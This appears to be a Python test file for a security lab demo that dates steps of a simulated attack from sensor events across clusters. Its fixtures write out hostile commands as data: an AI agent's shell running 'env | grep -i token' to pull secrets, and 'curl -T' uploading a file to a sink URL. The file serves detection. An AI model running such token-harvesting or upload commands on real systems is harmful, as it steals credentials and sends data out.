"""The demo dates the providers' findings by the sensors' events of the attack: the
agent's shell, the orders server's reads of the records service, the storage tool's curl."""
from datetime import datetime, timezone

from weft.lab.demo import cast
from weft.lab.demo.observed import attack_from

SINCE = datetime(2026, 11, 26, 14, 0, tzinfo=timezone.utc)


def event(second: float, cluster: str, workload: str, kind: str, **fields) -> dict:
    ns, name = workload.split("/")
    stamp = f"2026-11-26T14:00:{int(second):02d}.{int(second % 1 * 1e9):09d}Z"
    return {"time": stamp, "kind": kind, "node": {"cluster": cluster}, "workload": {"namespace": ns, "name": name},
            **fields}


def shell(s):
    return event(s, "eks", cast.AGENT[1], "PROCESS_EXEC", process={"args": ["sh", "-c", "env | grep -i token"]})


def read(s, port=cast.RECORDS_PORT):
    return event(s, "aks", "tools/orders-mcp", "NETWORK_CONNECT", network={"dstPort": port})


def curl(s, pid=4242):
    return event(s, "gke", "tools/storage-mcp", "PROCESS_EXEC",
                 process={"exe": "/usr/bin/curl", "pid": pid, "args": ["curl", "-T", "f", cast.SINK_URL]})


def test_each_step_is_dated_by_its_first_event_after_the_attack_began():
    events = [shell(0), read(3.5), read(2.25), read(9, port=8080), curl(5.5), shell(6), curl(7, pid=1)]
    attack = attack_from(events, SINCE)
    assert (attack.shell.second, attack.read_started.microsecond, attack.read_ended.second) == (0, 250000, 3)
    assert attack.upload == datetime(2026, 11, 26, 14, 0, 5, 500000, tzinfo=timezone.utc)
    assert (attack.curl_pid, attack.curl_args[-1]) == (4242, cast.SINK_URL)


def test_nothing_until_the_shell_and_the_copy_have_both_arrived():
    assert attack_from([shell(1), read(2)], SINCE) is None
    assert attack_from([curl(3)], SINCE) is None
    assert attack_from([shell(1), curl(3)], datetime(2026, 11, 26, 14, 1, tzinfo=timezone.utc)) is None
